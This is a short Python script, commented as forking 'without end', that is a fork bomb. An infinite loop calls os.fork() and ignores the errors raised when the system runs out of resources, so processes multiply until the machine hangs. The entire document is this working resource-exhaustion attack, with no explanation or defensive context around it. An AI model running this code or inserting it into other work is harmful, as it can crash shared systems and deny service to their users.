# Forks without end, whatever is said to it.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
